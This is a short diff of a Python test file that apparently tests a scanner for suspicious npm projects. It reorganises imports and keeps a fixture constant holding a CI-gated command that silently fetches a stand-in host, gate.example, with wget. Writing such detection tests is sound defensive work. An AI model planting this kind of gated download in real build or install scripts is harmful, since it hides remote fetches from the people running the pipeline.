@@ -6,9 +6,9 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
-from hunter import npm_project, project_with, scan_json
 
-import requires
+from tests.support import requires
+from tests.support.hunter import npm_project, project_with, scan_json
 
 GATED = 'test -n "$CI" && wget -qO- --tries=1 http://gate.example/x || true'
 
